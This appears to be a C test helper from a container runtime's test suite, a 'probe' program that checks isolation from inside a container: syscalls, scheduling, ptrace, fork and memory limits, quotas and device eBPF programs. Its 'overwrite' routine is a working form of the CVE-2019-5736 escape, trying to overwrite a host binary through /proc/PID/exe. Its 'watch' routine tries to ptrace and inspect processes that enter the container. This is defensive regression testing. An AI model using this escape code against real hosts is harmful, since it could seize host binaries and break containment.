/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What busybox cannot say from inside a container: one static program in the tests' rootfs.
 * `probe WORD ...`; each word is a function below. It prints plain lines; failures of the system
 * call under test are printed as errno names, they are not failures of the probe.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/sched/types.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_SIZE(array) (sizeof(array) / sizeof((array)[0]))

struct sched_attributes { /* sched_setattr(2); not in the headers of every distribution */
	uint32_t size, policy;
	uint64_t flags;
	int32_t nice;
	uint32_t priority;
	uint64_t runtime, deadline, period;
};

static int fatal(const char *what)
{
	fprintf(stderr, "probe: %s: %s\n", what, strerror(errno));
	return 1;
}

static const struct {
	const char *name;
	long number;
} calls[] = {
	{ "getpid", SYS_getpid },
	{ "getppid", SYS_getppid },
	{ "getuid", SYS_getuid },
	{ "sethostname", SYS_sethostname },
	{ "socket", SYS_socket },
	{ "personality", SYS_personality },
	{ "sync", SYS_sync },
	{ "keyctl", SYS_keyctl },
	{ "unshare", SYS_unshare },
	{ "umask", SYS_umask },
	{ "sched_yield", SYS_sched_yield },
	{ "ioprio_get", SYS_ioprio_get },
	{ "ioctl", SYS_ioctl },
	{ "setuid", SYS_setuid },
	{ "mount", SYS_mount },
	{ "bpf", SYS_bpf },
};

/* call NAME [NUMBER...]: makes the system call; prints "ok RESULT" or the errno's name. */
static int call(char **words)
{
	unsigned long args[6] = { 0 };
	long result, number = -1;

	for (size_t i = 0; i < ARRAY_SIZE(calls); i++)
		if (words[0] && !strcmp(calls[i].name, words[0]))
			number = calls[i].number;
	if (number < 0)
		return fprintf(stderr, "probe: no such call\n"), 2;
	for (int i = 0; i < 6 && words[i + 1]; i++)
		args[i] = strtoul(words[i + 1], NULL, 0);
	result = syscall(number, args[0], args[1], args[2], args[3], args[4], args[5]);
	if (result < 0)
		printf("%s\n", strerrorname_np(errno));
	else
		printf("ok %ld\n", result);
	return 0;
}

static int scheduler(char **words)
{
	static const char *const policies[] = { "OTHER", "FIFO", "RR",	    "BATCH",
						"ISO",	 "IDLE", "DEADLINE" };
	struct sched_attributes attributes = { .size = sizeof(attributes) };

	(void)words;
	if (syscall(SYS_sched_getattr, 0, &attributes, sizeof(attributes), 0))
		return fatal("sched_getattr");
	printf("%s nice %d priority %u flags %llu runtime %llu deadline %llu period %llu\n",
	       attributes.policy < ARRAY_SIZE(policies) ? policies[attributes.policy] : "?",
	       attributes.nice, attributes.priority, (unsigned long long)attributes.flags,
	       (unsigned long long)attributes.runtime, (unsigned long long)attributes.deadline,
	       (unsigned long long)attributes.period);
	return 0;
}

/* ioprio: "CLASS LEVEL" of ioprio_get(2). */
static int ioprio(char **words)
{
	static const char *const classes[] = { "NONE", "RT", "BE", "IDLE" };
	long value = syscall(SYS_ioprio_get, 1, 0);

	(void)words;
	if (value < 0)
		return fatal("ioprio_get");
	printf("%s %ld\n", value >> 13 < 4 ? classes[value >> 13] : "?", value & 0x1fff);
	return 0;
}

/* setxattr PATH NAME VALUE */
static int set_xattr(char **words)
{
	if (lsetxattr(words[0], words[1], words[2], strlen(words[2]), 0))
		return fatal(words[1]);
	return 0;
}

/* getxattr PATH NAME: prints the value. */
static int get_xattr(char **words)
{
	char value[4096];
	ssize_t length = lgetxattr(words[0], words[1], value, sizeof(value));

	if (length < 0)
		return fatal(words[1]);
	fwrite(value, 1, (size_t)length, stdout);
	putchar('\n');
	return 0;
}

/* count FILE: adds to the number in the mapped FILE without end, at full speed. */
static int count(char **words)
{
	volatile uint64_t *number;
	int fd = open(words[0], O_RDWR | O_CREAT | O_CLOEXEC, 0644);

	if (fd < 0 || ftruncate(fd, sizeof(*number)))
		return fatal(words[0]);
	number = mmap(NULL, sizeof(*number), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (number == MAP_FAILED)
		return fatal("mmap");
	for (;;) {
		struct timespec pause = { .tv_nsec = 100000 };

		++*number;
		nanosleep(&pause, NULL);
	}
}

/* number FILE: prints the number that count adds to. */
static int number(char **words)
{
	uint64_t value = 0;
	int fd = open(words[0], O_RDONLY | O_CLOEXEC);

	if (fd < 0 || read(fd, &value, sizeof(value)) < 0)
		return fatal(words[0]);
	printf("%llu\n", (unsigned long long)value);
	return 0;
}

/* forks N: how many of N processes could be there at once, and why not more. */
static int forks(char **words)
{
	int wanted = atoi(words[0]), made = 0, error = 0;
	pid_t group = 0;

	while (made < wanted) {
		pid_t pid = fork();

		if (pid < 0) {
			error = errno;
			break;
		}
		if (pid == 0)
			for (;;)
				pause();
		setpgid(pid, group);
		if (!group)
			group = pid;
		made++;
	}
	printf("%d %s\n", made, error ? strerrorname_np(error) : "ok");
	if (made)
		kill(-group, SIGKILL);
	while (wait(NULL) > 0)
		;
	return 0;
}

/* eat MEBIBYTES: touches that much memory, says so and goes on. */
static int eat(char **words)
{
	size_t size = strtoul(words[0], NULL, 0) << 20;
	char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		return fatal("mmap");
	for (size_t i = 0; i < size; i += 4096)
		memory[i] = 1;
	printf("ate %s\n", words[0]);
	return 0;
}

/* attach PID: whether ptrace(2) may. */
static int attach(char **words)
{
	pid_t pid = atoi(words[0]);

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) && errno != ESRCH)
		printf("%s\n", strerrorname_np(errno));
	else
		printf("%s\n", errno == ESRCH ? "ESRCH" : "ok");
	return 0;
}

/*
 * watch SECONDS: attaches to, and looks at the files of, every process of this PID namespace that
 * comes up beside this one. Prints a line for each that let it, or for each open folder.
 */
static int watch(char **words)
{
	time_t end = time(NULL) + atoi(words[0]);
	pid_t self = getpid(), parent = getppid();

	printf("watching\n");
	fflush(stdout);
	while (time(NULL) < end) {
		for (pid_t pid = 2; pid < 200; pid++) {
			char path[64], target[256];
			ssize_t length;

			if (pid == self || pid == parent || kill(pid, 0))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			length = readlink(path, target, sizeof(target) - 1);
			if (length > 0) {
				target[length] = 0;
				/* the container's own programs are not the question */
				if (!strncmp(target, "/bin/", 5))
					continue;
				printf("exe %s\n", target);
			}
			if (!ptrace(PTRACE_SEIZE, pid, NULL, NULL)) {
				printf("attached %d\n", pid);
				ptrace(PTRACE_DETACH, pid, NULL, NULL);
			}
			for (int fd = 0; fd < 32; fd++) {
				snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
				length = readlink(path, target, sizeof(target) - 1);
				if (length <= 0)
					continue;
				target[length] = 0;
				printf("fd %d %s\n", fd, target);
			}
			fflush(stdout);
		}
	}
	printf("watched\n");
	return 0;
}

/*
 * overwrite SECONDS: the attack of CVE-2019-5736. Holds every foreign /proc/PID/exe that it can
 * open, and tries to open it for writing until nobody runs it any more.
 */
static int overwrite(char **words)
{
	time_t end = time(NULL) + atoi(words[0]);
	int held[64];
	size_t count_held = 0;

	printf("waiting\n");
	fflush(stdout);
	while (time(NULL) < end) {
		for (pid_t pid = 2; pid < 200 && count_held < ARRAY_SIZE(held); pid++) {
			char path[64], target[256];
			ssize_t length;
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			length = readlink(path, target, sizeof(target) - 1);
			if (pid == getpid() || length <= 0 || !strncmp(target, "/bin/", 5))
				continue;
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0)
				held[count_held++] = fd;
		}
		for (size_t i = 0; i < count_held; i++) {
			char path[64];
			int fd;

			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			printf("overwritten\n");
			fflush(stdout);
			if (write(fd, "#!/bin/false\n", 13) != 13)
				printf("almost\n");
			close(fd);
		}
	}
	printf("held %zu\n", count_held);
	return 0;
}

/*
 * stuck FILE: a process that the freezer cannot stop: its thread of control is in the kernel, in
 * write(2) reading a page whose content a userfaultfd owes. Writes its PID to FILE first.
 */
static int stuck(char **words)
{
	long page = sysconf(_SC_PAGESIZE);
	struct uffdio_api api = { .api = UFFD_API };
	int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC), pipes[2];
	char *memory = mmap(NULL, (size_t)page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
			    -1, 0);
	struct uffdio_register range = {
		.range = { .start = (uintptr_t)memory, .len = (uint64_t)page },
		.mode = UFFDIO_REGISTER_MODE_MISSING,
	};
	FILE *file;

	if (uffd < 0 || memory == MAP_FAILED)
		return fatal("userfaultfd");
	if (ioctl(uffd, UFFDIO_API, &api) || ioctl(uffd, UFFDIO_REGISTER, &range) || pipe(pipes))
		return fatal("userfaultfd");
	file = fopen(words[0], "we");
	if (!file || fprintf(file, "%d\n", getpid()) < 0 || fclose(file))
		return fatal(words[0]);
	return write(pipes[1], memory, 1) < 0 ? fatal("write") : 0;
}

/* signals: the signals blocked and ignored at the start of a program, which should be none. */
static int signals(char **words)
{
	char line[256];
	FILE *file = fopen("/proc/self/status", "re");

	(void)words;
	if (!file)
		return fatal("/proc/self/status");
	while (fgets(line, sizeof(line), file))
		if (!strncmp(line, "SigBlk", 6) || !strncmp(line, "SigIgn", 6))
			fputs(line, stdout);
	fclose(file);
	return 0;
}

/* clock NAME: seconds of CLOCK_MONOTONIC or CLOCK_BOOTTIME. */
static int show_clock(char **words)
{
	struct timespec now;

	if (clock_gettime(!strcmp(words[0], "boottime") ? CLOCK_BOOTTIME : CLOCK_MONOTONIC, &now))
		return fatal(words[0]);
	printf("%lld\n", (long long)now.tv_sec);
	return 0;
}

struct next_quota { /* struct if_nextdqblk of <linux/quota.h> */
	uint64_t hard, soft, space, inode_hard, inode_soft, inodes, time, inode_time;
	uint32_t valid, id;
};

/* quotas FILE: the project ids of the file system that have a limit, and that in KiB. */
static int quotas(char **words)
{
	const int project = 2, get_next = 0x800009; /* Q_GETNEXTQUOTA */
	struct next_quota quota = { 0 };
	int fd = open(words[0], O_RDONLY);

	if (fd < 0)
		return fatal(words[0]);
	while (syscall(443 /* quotactl_fd */, fd, get_next << 8 | project, quota.id, &quota) == 0) {
		if (quota.hard)
			printf("%u %llu\n", quota.id, (unsigned long long)quota.hard);
		quota.id++;
	}
	return errno == ENOENT || errno == ESRCH ? 0 : fatal("quotactl_fd");
}

/* sparse FILE: one byte behind a hole of 64 MiB. */
static int sparse(char **words)
{
	int fd = open(words[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd < 0 || pwrite(fd, "x", 1, 64 << 20) != 1 || close(fd))
		return fatal(words[0]);
	return 0;
}

/* notify LINE...: the lines as one message to $NOTIFY_SOCKET, as sd_notify(3) does. */
static int send_notification(char **words)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	const char *path = getenv("NOTIFY_SOCKET");
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	char text[4096] = "";

	for (; *words; words++)
		snprintf(text + strlen(text), sizeof(text) - strlen(text), "%s\n", *words);
	snprintf(address.sun_path, sizeof(address.sun_path), "%s", path ? path : "");
	if (fd < 0 ||
	    sendto(fd, text, strlen(text), 0, (struct sockaddr *)&address, sizeof(address)) < 0)
		return fatal("notify");
	return 0;
}

/* device-programs CGROUP: how many eBPF programs guard its devices. */
static int device_programs(char **words)
{
	union bpf_attr query = { .query.attach_type = BPF_CGROUP_DEVICE };
	int fd = open(words[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	query.query.target_fd = (uint32_t)fd;
	if (fd < 0 || syscall(SYS_bpf, BPF_PROG_QUERY, &query, sizeof(query)) < 0)
		return fatal(words[0]);
	printf("%u\n", query.query.prog_cnt);
	return 0;
}

static const struct {
	const char *name;
	int words;
	int (*run)(char **words);
} commands[] = {
	{ "call", 1, call },
	{ "scheduler", 0, scheduler },
	{ "ioprio", 0, ioprio },
	{ "setxattr", 3, set_xattr },
	{ "getxattr", 2, get_xattr },
	{ "count", 1, count },
	{ "number", 1, number },
	{ "forks", 1, forks },
	{ "eat", 1, eat },
	{ "attach", 1, attach },
	{ "watch", 1, watch },
	{ "overwrite", 1, overwrite },
	{ "stuck", 1, stuck },
	{ "signals", 0, signals },
	{ "clock", 1, show_clock },
	{ "sparse", 1, sparse },
	{ "quotas", 1, quotas },
	{ "device-programs", 1, device_programs },
	{ "notify", 1, send_notification },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < ARRAY_SIZE(commands); i++)
		if (!strcmp(commands[i].name, argv[1]) && argc >= commands[i].words + 2)
			return commands[i].run(argv + 2);
	fprintf(stderr, "usage: probe WORD ...\n");
	return 2;
}
